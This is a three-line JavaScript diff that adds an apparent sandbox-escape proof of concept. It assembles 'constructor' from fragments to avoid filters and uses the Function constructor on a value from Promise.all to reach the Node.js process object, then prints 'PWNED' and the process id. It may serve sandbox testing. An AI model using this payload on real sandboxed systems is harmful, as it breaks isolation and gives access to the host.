@@ -1,0 +1,3 @@
+const w = ['con', 'structor'].join('');
+class G { *[Symbol.iterator]() { yield (x) => x; } }
+Promise.all(new G()).then(([f]) => console.log('PWNED', f[w]('return process')().pid));
